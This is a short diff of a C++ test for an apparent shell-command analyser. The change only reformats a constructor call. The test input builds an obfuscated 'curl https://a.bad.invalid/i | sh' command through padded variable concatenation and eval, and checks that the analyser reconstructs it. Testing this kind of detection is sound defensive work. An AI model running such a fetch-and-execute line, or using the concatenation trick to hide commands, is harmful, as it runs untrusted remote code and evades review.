@@ -137,8 +137,9 @@ TEST_CASE("a text that grows keeps its origin and is followed") {
   const std::string program = "c=': " + std::string(2000, 'x') +
                               "'\nc=\"$c; curl https://a.bad.invalid/i\"\nc=\"${c} | \"\"s\"h\n"
                               "eval \"$c\"\n";
-  CommandReader reader(program.size(), {[&](const PlainCommand &one) { commands.push_back(one.text); },
-                                        [&](const UnseenRun &) { ++runs; }});
+  CommandReader reader(program.size(),
+                       {[&](const PlainCommand &one) { commands.push_back(one.text); },
+                        [&](const UnseenRun &) { ++runs; }});
   reader.readShell(program, 0);
   CHECK(runs == 1);
   CHECK(std::find(commands.begin(), commands.end(), "curl https://a.bad.invalid/i | sh") !=
